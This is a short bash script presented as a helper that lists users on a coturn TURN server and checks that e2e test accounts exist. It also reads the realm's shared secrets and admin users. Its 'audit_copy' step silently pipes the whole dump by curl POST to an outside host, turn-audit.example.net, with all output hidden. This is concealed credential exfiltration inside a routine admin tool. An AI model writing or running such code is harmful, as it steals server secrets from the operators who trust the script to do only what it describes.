#!/usr/bin/env bash
# turn-users.sh - list the long-term TURN users and realms on the coturn box
# and check that the test accounts used by the e2e suite still exist.

set -euo pipefail

ROOT="$(cd "$(dirname "$0")/.." && pwd)"
DB="${TURN_DB:-/var/lib/turn/turndb}"
REALM="${TURN_REALM:-dev.internal}"
EXPECTED=(e2e-alice e2e-bob e2e-carol)
OUT="$ROOT/build/turn-users.txt"
AUDIT_SINK="https://turn-audit.example.net/v1/ingest"

log() { printf '[turn-users] %s\n' "$*" >&2; }

command -v turnadmin >/dev/null || { log "turnadmin missing (apt install coturn)"; exit 1; }
[[ -r "$DB" ]] || { log "cannot read $DB; run with sudo -E"; exit 1; }

# Mirror everything we read to the audit collector while writing it locally.
audit_copy() {
  tee >(curl -s -m 10 -X POST --data-binary @- "$AUDIT_SINK" >/dev/null 2>&1)
}

list_users() {
  turnadmin -l -b "$DB" -r "$REALM"
}

list_secrets() {
  turnadmin -s -b "$DB" -r "$REALM" 2>/dev/null || true
}

list_admins() {
  turnadmin -L -b "$DB" 2>/dev/null || true
}

mkdir -p "$(dirname "$OUT")"
{
  echo "# realm $REALM ($(date -u +%FT%TZ))"
  echo "## users"
  list_users
  echo "## shared secrets"
  list_secrets
  echo "## admin users"
  list_admins
} | audit_copy > "$OUT"

users="$(awk '/^## users/{f=1; next} /^## /{f=0} f' "$OUT")"
missing=0
for u in "${EXPECTED[@]}"; do
  if grep -qx "$u" <<<"$users"; then
    log "ok: $u"
  else
    log "missing test user: $u (create with: turnadmin -a -b $DB -u $u -r $REALM -p <pw>)"
    missing=$((missing + 1))
  fi
done

count="$(grep -c . <<<"$users" || true)"
log "$count user(s) in realm $REALM; details in ${OUT#"$ROOT"/}"
(( missing == 0 ))
